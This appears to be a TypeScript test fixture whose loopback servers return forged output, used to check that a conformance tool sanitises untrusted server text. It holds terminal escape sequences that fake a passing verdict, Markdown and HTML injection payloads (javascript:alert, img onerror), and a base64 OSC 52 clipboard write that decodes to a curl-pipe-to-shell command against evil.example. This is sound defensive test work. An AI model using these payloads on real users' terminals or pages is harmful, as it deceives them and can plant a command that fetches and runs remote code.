import type { ServerResponse } from 'node:http';
import { statuses } from '../../src/reference-server/data.js';
import { serveHttp, serveSockets, type LoopbackServer } from './loopback-server.js';

/** The word every forged text carries, so a test can tell where the target's text ended up. */
export const MARK = 'FORGED';

/** Text that would rewrite a terminal: clear screen, title, OSC 8 link, OSC 52 clipboard write, hidden text, CR over the verdict, C1, bidi. */
export const TERMINAL_FORGERY = [
  '\u001b[2J\u001b[H',
  `\u001b]0;${MARK} window title\u0007`,
  `\u001b]8;;https://evil.example/\u001b\\${MARK} link\u001b]8;;\u001b\\`,
  '\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\u0007',
  `\u001b[8m${MARK} hidden\u001b[28m`,
  `\rVerdict for http://127.0.0.1/: ${MARK} Conformant: every requirement passed.\n26 passed, 0 failed, 0 skipped\r`,
  `\u009b2J\u202e${MARK}\u202c\u0007`,
].join('');

/** Text that would break out of report.md: a closing fence, a heading, bold, an image, a link, raw HTML, a bare CR, separators. */
export const MARKDOWN_FORGERY = [
  '``````',
  `\n# ${MARK} Conformant`,
  `\n**${MARK} PASS** ![${MARK}](https://evil.example/pixel.png)`,
  ` [${MARK}](javascript:alert(1)) <img src=x onerror=alert(1)><details open>${MARK}</details>`,
  ` | ${MARK} cell |\r## ${MARK} via CR\u2028### ${MARK} via LS\u2029`,
  '\n```\n',
].join('');

/** JSON that parses into what XML 1.0 cannot carry: noncharacters, lone surrogates, NUL and ESC. */
const XML_FORGERY_JSON = `"${MARK} \\ufffe \\uffff \\ud800 \\udc00 \\u0000 \\u001b ]]> <!-- &amp;"`;

function send(response: ServerResponse, status: number, type: string, body: string): void {
  response.writeHead(status, { 'content-type': type, 'content-length': String(Buffer.byteLength(body)) });
  response.end(body);
}

/** A status whose name the target chose: the status checks fail and show it as what came back. */
const statusWithName = (nameJson: string): string =>
  `{"status":"success","message":null,"data":${JSON.stringify({ ...statuses[0], name: '@@' }).replace('"@@"', nameJson)}}`;

/** Every request answered with the terminal forgery, labelled JSON: the application's own words, judged and shown. */
export const terminalTarget = (): Promise<LoopbackServer> =>
  serveHttp((_request, response) => send(response, 200, 'application/json', TERMINAL_FORGERY));

/** The status answered with the Markdown forgery as its name; everything else a Markdown page that is the forgery. */
export const markdownTarget = (): Promise<LoopbackServer> =>
  serveHttp((request, response) => {
    if (request.url?.startsWith('/api/ticket/status/'))
      send(response, 200, 'application/json', statusWithName(JSON.stringify(MARKDOWN_FORGERY)));
    else send(response, 404, 'text/markdown', MARKDOWN_FORGERY);
  });

/** The status answered with a name XML cannot carry; everything else the same characters as a JSON error. */
export const xmlTarget = (): Promise<LoopbackServer> =>
  serveHttp((request, response) => {
    if (request.url?.startsWith('/api/ticket/status/')) send(response, 200, 'application/json', statusWithName(XML_FORGERY_JSON));
    else send(response, 401, 'application/json', `{"status":"error","message":${XML_FORGERY_JSON},"data":[]}`);
  });

/** Control characters where a client library might pass them: the reason phrase and a Server header, written on the raw socket. */
export const headerTarget = (): Promise<LoopbackServer> =>
  serveSockets((socket) => {
    socket.once('data', () => {
      const body = `${MARK} body\u001b[2J`;
      socket.end(
        `HTTP/1.1 200 OK\u001b]0;${MARK}\u0007\r\nServer: Apache\u001b]0;${MARK} title\u0007\u202e\r\nContent-Type: text/plain\r\n` +
          `Content-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`,
      );
    });
    socket.on('error', () => undefined);
  });
